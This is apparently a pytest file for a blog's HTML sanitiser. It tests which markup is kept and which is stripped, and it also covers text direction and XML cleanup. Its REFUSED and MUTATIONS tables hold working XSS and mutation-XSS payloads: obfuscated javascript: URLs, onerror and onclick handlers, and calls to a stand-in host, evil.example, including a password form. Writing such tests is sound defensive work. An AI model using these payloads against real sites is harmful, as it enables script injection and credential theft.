"""What an author may write, and what becomes of the rest. Each row is (written, shown)."""

# ruff: noqa: E501 (a row of a table is one line)

import pytest

from blog.content import left_out, sanitize
from blog.content.sanitize import NOT_IN_XML, render, xml_text
from blog.content.toc import parts_of
from tests.support.pages import elements

KEPT = [
    '<h2 id="one">One</h2>',
    '<h3 id="two">Two</h3>',
    "<h4>Three</h4>",
    "<p>a <strong>b</strong> <b>c</b> <em>d</em> <i>e</i> <s>f</s></p>",
    "<p>H<sub>2</sub>O, 10<sup>6</sup>, <mark>new</mark>, <del>old</del>, <ins>added</ins></p>",
    '<p><abbr title="multiple sclerosis">MS</abbr></p>',
    '<p><a href="https://example.org/a?b=c">there</a></p>',
    '<p><a href="http://example.org/">there</a></p>',
    '<p><a href="mailto:team@example.org">write</a></p>',
    '<p><a href="/about/">about</a></p>',
    '<p><a href="#methods">below</a></p>',
    '<h2 id="methods">Methods</h2>',
    "<ul><li>one</li><li>two</li></ul>",
    '<ol start="3"><li>three</li></ol>',
    "<dl><dt>word</dt><dd>meaning</dd></dl>",
    '<blockquote cite="https://example.org/"><p>said</p></blockquote>',
    '<blockquote class="press"><p>For immediate release</p></blockquote>',
    "<pre><code>a &lt; b</code></pre>",
    '<figure class="wide"><img src="/media/posts/hill.webp" alt="A hill" width="3" height="2">'
    "<figcaption>The hill.</figcaption></figure>",
    '<p><img src="/static/img/icon.svg" alt=""></p>',
    '<table><caption>Dose</caption><thead><tr><th scope="col">Day</th></tr></thead>'
    '<tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<p><time datetime="2026-03-10">10 March</time></p>',
    "<details open><summary>More</summary><p>text</p></details>",
    '<p lang="cy" dir="ltr">Bore da</p>',
    "<p>Tom &amp; Jerry, 5 &lt; 6</p>",
    '<p dir="auto">Grüße, 你好, مرحبا, 👩‍⚕️</p>',
    "<pre><code>for dose in doses:\n    print(dose)\n\n\tdone</code></pre>",
    "<p>10&nbsp;mg, « mot »&nbsp;: 5&nbsp;%, 1\u202f000\u2009m</p>",
    "<p><strong><em>both</em></strong>, 10<sup>6</sup>, <s>no</s></p>",
]

REFUSED = [
    # Programs
    ("<p>a<script>alert(1)</script></p>", "<p>aalert(1)</p>"),
    ("<p>a<SCRIPT SRC=//evil.example></SCRIPT></p>", "<p>a</p>"),
    ('<p onclick="alert(1)">a</p>', "<p>a</p>"),
    ('<p><img src="/media/a.webp" alt="" onerror="alert(1)"></p>', '<p><img src="/media/a.webp" alt=""></p>'),
    ('<details ontoggle=alert(1) open><summary>x</summary></details>', '<details open><summary>x</summary></details>'),
    ('<p><a href="javascript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="javascript:123">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="JaVaScRiPt:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="java\tscript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="java&#9;script:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="\x01javascript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="&#106;avascript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="&#x6A;avascript&colon;alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href=" javascript:alert(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="vbscript:msgbox(1)">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="data:text/html,<script>alert(1)</script>">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="blob:https://example.org/1">a</a></p>', "<p><a>a</a></p>"),
    # Addresses that look like ours and are not
    ('<p><a href="//evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="/\\evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="\\\\evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="/\t/evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="/&#10;/evil.example/">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="relative">a</a></p>', "<p><a>a</a></p>"),
    ('<p><a href="https://example.org/" target="_blank">a</a></p>', '<p><a href="https://example.org/">a</a></p>'),
    ('<p><a href="https://example.org/" ping="//evil.example">a</a></p>', '<p><a href="https://example.org/">a</a></p>'),
    ('<blockquote cite="javascript:alert(1)"><p>a</p></blockquote>', "<blockquote><p>a</p></blockquote>"),
    ('<p><a href="#_msocom_1">[AL1]</a></p>', "<p><a>[AL1]</a></p>"),
    ("<p><strike>no</strike></p>", "<p><s>no</s></p>"),
    # Pictures from elsewhere, and other ways to call home
    ('<p><img src="https://evil.example/a.png" alt="x"></p>', '<p></p>'),
    ('<p><img src="//evil.example/a.png" alt="x"></p>', '<p></p>'),
    ('<p><img src="data:image/png;base64,AAAA" alt="x"></p>', '<p></p>'),
    ('<p><img src="/media/a.webp" srcset="//evil.example/a 2x" alt=""></p>', '<p><img src="/media/a.webp" alt=""></p>'),
    ('<p style="background:url(//evil.example/a)">a</p>', "<p>a</p>"),
    ("<p>a</p><style>p{color:red}</style>", "<p>a</p>p{color:red}"),
    ('<p>a</p><link rel="stylesheet" href="//evil.example/a.css">', "<p>a</p>"),
    ('<p>a</p><meta http-equiv="refresh" content="0;url=//evil.example">', "<p>a</p>"),
    ('<p>a</p><base href="//evil.example/">', "<p>a</p>"),
    ('<p>a</p><iframe src="https://evil.example/"></iframe>', "<p>a</p>"),
    ('<p>a</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<p>a</p>"),
    ('<p>a</p><object data="a.swf"></object><embed src="a.swf">', "<p>a</p>"),
    ('<p>a</p><video src="a.mp4" autoplay></video><audio src="a.mp3"></audio>', "<p>a</p>"),
    # Forms, that would ask for a password in our name
    ('<p>a</p><form action="//evil.example"><input name="password"><button>Go</button></form>', "<p>a</p>\nGo"),
    # Text in blocks is left as it is, whichever blocks they are
    ("<aside>a</aside>", "<aside>a</aside>"),
    ("<hr>", "<hr>"),
    # Names and looks that are ours
    ('<h4 id="comment-12">a</h4>', "<h4>a</h4>"),
    ('<h4 id="comments">a</h4>', "<h4>a</h4>"),
    ('<h4 id="by-12">a</h4>', "<h4>a</h4>"),
    ('<h4 id="respond">a</h4>', "<h4>a</h4>"),
    ('<h4 id="1st">a</h4>', "<h4>a</h4>"),
    ('<p class="press">a</p>', '<p class="press">a</p>'),
    ('<p class="vh">a</p>', "<p>a</p>"),
    ('<p class="press vh">a</p>', "<p>a</p>"),
    ('<p class="">a</p>', "<p>a</p>"),
    ('<p data-thread="1">a</p>', "<p>a</p>"),
    ("<h1>a</h1><p>b</p>", "a<p>b</p>"),
]  # fmt: skip

# Text that a browser reads in another way than a sanitiser: mutation XSS.
MUTATIONS = [
    "<p>x</p><svg><style><img src=x onerror=alert(1)></style></svg>",
    "<p>x</p><svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<p>x</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<p>x</p><math><mi><xlink href='javascript:alert(1)'>a</mi></math>",
    "<p>x</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p>x</p><template><img src=x onerror=alert(1)></template>",
    "<p>x</p><!--><img src=x onerror=alert(1)>-->",
    "<p>x</p><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p>x</p><textarea></p><img src=x onerror=alert(1)></textarea>",
    "<p>x</p><title><img src=x onerror=alert(1)></title>",
    "<p>x</p><xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p>x</p><noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<p>x</p><<script>alert(1)//<</script>",
    "<p>x</p><img src=/media/a.webp alt='`<script>alert(1)</script>`'>",
    "<p>x</p><a href='https://example.org/\"onmouseover=\"alert(1)'>a</a>",
    "<p>x</p><svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<p>x</p><svg><use href='data:image/svg+xml,<svg/>'></svg>",
    "<p>x</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p>x</p><p/onclick=alert(1)>x",
    "<p>x</p><img\fsrc=x\fonerror=alert(1)>",
]  # fmt: skip


@pytest.mark.parametrize("written", KEPT)
def test_what_an_article_needs_is_kept_as_it_was_written(written):
    assert render(written) == written


@pytest.mark.parametrize(("written", "shown"), REFUSED)
def test_what_could_harm_a_reader_is_taken_out(written, shown):
    assert render(written) == shown


@pytest.mark.parametrize("written", MUTATIONS)
def test_a_browser_finds_nothing_that_runs_in_mangled_html(written):
    found = elements(render(written))

    assert {tag for tag, _ in found} <= {"p", "a", "img", "table"}
    assert {name for _, attributes in found for name in attributes} <= {"href", "src", "alt", "title"}  # fmt: skip


@pytest.mark.parametrize("written", [*KEPT, *MUTATIONS, *(written for written, _ in REFUSED)])
def test_what_was_rendered_once_stays_the_same_when_it_is_rendered_again(written):
    shown = render(written)

    assert render(shown) == shown


def test_text_without_blocks_becomes_paragraphs():
    shown = render("One <em>line</em>\r\nand its rest.\r\n\r\n\r\n\r\nAnother.\n")

    assert shown == "<p>One <em>line</em>\nand its rest.</p>\n<p>Another.</p>"


def test_an_empty_body_stays_empty():
    assert render(" \r\n ") == ""


def test_a_field_of_xml_keeps_its_words_and_loses_what_xml_cannot_write():
    shown = xml_text("a\x00b\x08c\x1bd\x7fe\x9ff\ufffeg\ud800h\tI\nJ 👩‍⚕️ ]]>")

    assert shown == "abcdefgh\tI\nJ 👩‍⚕️ ]]>"
    assert not NOT_IN_XML.search(shown)


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ('<p><img src="/media/a.webp" alt="A hill">x</p>', []),
        ('<p><img src="https://a.example/b/hill.jpg?w=2"></p>', ["1 picture (hill.jpg)"]),
        (
            '<img src="file:///C:/image%20001.png" alt=" A lamp "><img src="data:image/png;base64,A">',
            ["2 pictures (“A lamp”)"],
        ),
        ('<img src="http://[a">', ["1 picture"]),
        ("<iframe src='//a'><video></video></iframe><video></video><embed><embed>",
         ["3 embedded pages", "1 video"]),
        ("<svg><a href='x'></a></svg><math></math><script>'<img>'</script>",
         ["1 drawing", "1 formula", "1 script"]),
        ('<a href="javascript:x">a</a><a name="b"></a>', ["the address of 1 link"]),
        ("<p class=x><font>a</font><o:p></o:p></p><![if !vml]><!-- <img> -->", []),
    ],
)  # fmt: skip
def test_what_is_left_out_is_named(written, left):
    assert left_out.in_words(written) == left


@pytest.mark.parametrize("written", MUTATIONS)
def test_nothing_that_is_mangled_stops_the_naming(written):
    assert isinstance(left_out.in_words(written), list)


DIRECTIONS = [
    ("<p>Hello</p><ul><li>tea</li></ul>", "<p>Hello</p><ul><li>tea</li></ul>"),
    ("<p>Hello</p><p>שלום</p>", '<p>Hello</p><p dir="auto">שלום</p>'),
    ("<h2>שלום</h2>", '<h2 dir="auto" id="part-שלום">שלום</h2>'),
    ("<p>Say مرحبا</p>", '<p dir="auto">Say مرحبا</p>'),
    ("<p>&#x5d0;</p>", '<p dir="auto">&#x5d0;</p>'),
    (
        "<blockquote><p>مرحبا</p><p>ok</p></blockquote><p>ok</p>",
        '<blockquote dir="rtl"><p dir="auto">مرحبا</p><p dir="auto">ok</p></blockquote><p>ok</p>',
    ),
    (
        "<ul><li>tea</li><li>שלום</li></ul>",
        '<ul><li>tea</li><li dir="auto">שלום</li></ul>',
    ),
    (
        "<ul><li>שלום</li><li>tea<ul><li>green</li></ul></li></ul>",
        '<ul dir="rtl"><li dir="auto">שלום</li><li dir="ltr">tea<ul><li>green</li></ul></li></ul>',
    ),
    (
        '<div dir="rtl"><p>COVID مرحبا</p></div><p dir="ltr">שלום</p>',
        '<div dir="rtl"><p>COVID مرحبا</p></div><p dir="ltr">שלום</p>',
    ),
]


def test_a_block_with_letters_from_right_to_left_says_so_and_no_other():
    assert [sanitize.render(written) for written, _ in DIRECTIONS] == [
        shown for _, shown in DIRECTIONS
    ]
    # And what was rendered once stays the same.
    assert [sanitize.render(shown) for _, shown in DIRECTIONS] == [shown for _, shown in DIRECTIONS]


def test_the_label_of_a_note_does_not_say_which_way_it_runs():
    assert sanitize.render_note("שלום", "Update:") == (
        '<p dir="auto"><b dir="ltr">Update:</b> שלום</p>'
    )
    assert sanitize.render_note("Hello", "Update:") == "<p><b>Update:</b> Hello</p>"


def test_a_long_post_finds_its_parts_in_headings_of_any_direction():
    markup = sanitize.render("<h2>אחת</h2><h2>Two</h2><h2>שלוש</h2>")

    assert parts_of(markup, "word " * 700) == [
        ("part-אחת", "אחת"),
        ("part-two", "Two"),
        ("part-שלוש", "שלוש"),
    ]
